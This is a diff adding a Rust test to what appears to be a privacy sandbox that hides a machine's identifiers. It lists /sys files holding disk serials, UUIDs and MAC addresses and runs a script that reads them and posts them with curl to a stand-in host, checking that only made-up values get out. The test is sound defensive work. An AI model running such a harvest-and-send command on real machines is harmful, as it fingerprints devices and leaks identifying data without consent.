@@ -285,6 +285,52 @@ fn all_that_an_app_can_learn_of_the_machine_is_found_where_it_is_told_and_nowher
     assert_eq!(escaped(&flows), [] as [[String; 3]; 0]);
 }
 
+/// Files of `/sys` in which a machine's own numbers stand.
+const NUMBERS: &str = "/sys/block/*/serial /sys/block/*/device/serial /sys/block/*/wwid /sys/class/nvme/*/serial \
+    /sys/class/dmi/id/*_serial /sys/class/dmi/id/product_uuid /sys/bus/usb/devices/*/serial \
+    /sys/class/power_supply/*/serial_number /sys/class/net/*/address /sys/devices/virtual/net/*/address \
+    /sys/devices/pci*/*/net/*/address /sys/devices/pci*/*/*/net/*/address /sys/devices/platform/*/net/*/address";
+
+/// An app that reads all of them tells what was made up, and nothing of this machine.
+#[test]
+fn numbers_in_sys_are_made_up() {
+    if !common::installed("curl") {
+        skip("curl is not installed");
+        return;
+    }
+    let read = format!("cat {NUMBERS} 2>/dev/null");
+    let own = std::process::Command::new("sh")
+        .args(["-c", &read])
+        .output();
+    let own = String::from_utf8_lossy(&own.expect("a shell").stdout).into_owned();
+    let script = format!(
+        "({read}; echo the end) | curl -s -m 5 --data-binary @- http://metrics.example.net/"
+    );
+    let dir = tempfile::tempdir().unwrap();
+    let out = dir.path().join("run");
+    let Some(said) = on_sink(&out, &["--", "/bin/sh", "-c", &script]) else {
+        return;
+    };
+    let flows = json(&said);
+    let body = flows["sent"][0]["body"].as_str().unwrap_or_default();
+    assert!(body.ends_with("the end\n"), "{body:?}");
+    // Loopback has none on any machine.
+    let is_told = |number: &&str| number.len() > 3 && *number != "00:00:00:00:00:00";
+    let own: BTreeSet<&str> = own.lines().map(str::trim).filter(is_told).collect();
+    let told: BTreeSet<&str> = body.lines().map(str::trim).collect();
+    let shared: Vec<_> = told.intersection(&own).collect();
+    assert!(shared.is_empty(), "{shared:?}");
+    let found: BTreeSet<String> = escaped(&flows).into_iter().map(|[name, ..]| name).collect();
+    assert!(found.contains("MAC address"), "{found:?}: {body}");
+    if std::process::Command::new("sh")
+        .args(["-c", "cat /sys/block/*/serial"])
+        .output()
+        .is_ok_and(|out| !out.stdout.is_empty())
+    {
+        assert!(found.contains("disk serial"), "{found:?}: {body}");
+    }
+}
+
 /// (Name, moments) of each receiver beyond the stage.
 fn moments(flows: &Value) -> BTreeSet<(String, Vec<String>)> {
     let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
